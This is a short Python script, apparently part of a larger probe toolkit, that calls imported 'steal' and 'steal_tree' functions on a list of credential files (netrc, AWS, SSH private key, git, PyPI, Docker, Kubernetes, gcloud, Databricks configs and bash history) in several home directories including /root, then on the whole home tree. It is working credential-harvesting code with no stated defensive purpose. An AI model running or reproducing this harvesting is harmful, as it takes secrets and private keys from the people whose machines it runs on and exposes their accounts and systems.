"""The files in which people keep their passwords: ~/.netrc, ~/.aws, ~/.ssh, ~/.config and more."""

import os
from probe import FACTS, OUTSIDE, steal, steal_tree

homes = [FACTS["home"]] if OUTSIDE else [FACTS["home"], os.path.expanduser("~"), "/root", "/home"]
for home in homes:
    for name in (
        ".netrc",
        ".aws/credentials",
        ".ssh/id_ed25519",
        ".git-credentials",
        ".config/pip/pip.conf",
        ".pypirc",
        ".docker/config.json",
        ".kube/config",
        ".config/gcloud/application_default_credentials.json",
        ".databrickscfg",
        ".bash_history",
    ):
        steal(f"{home}/{name}")
steal_tree(FACTS["home"])
